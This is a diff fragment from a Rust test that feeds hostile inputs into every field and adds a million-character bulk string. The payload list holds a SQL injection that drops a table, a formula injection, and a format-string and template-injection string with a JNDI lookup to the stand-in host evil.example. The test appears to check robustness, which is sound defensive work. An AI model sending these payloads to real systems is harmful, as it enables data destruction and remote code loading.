@@ -283,6 +283,7 @@ fn payloads_and_bulk_in_every_field_stop_nothing() {
         "'; DROP TABLE orders; --".to_owned(),
         "\u{ff1d}1+1".to_owned(),
         "%s%n{{7*7}}${jndi:ldap://evil.example}".to_owned(),
+        "1".repeat(1_000_000),
     ];
     let mut bodies = String::new();
     for payload in &payloads {
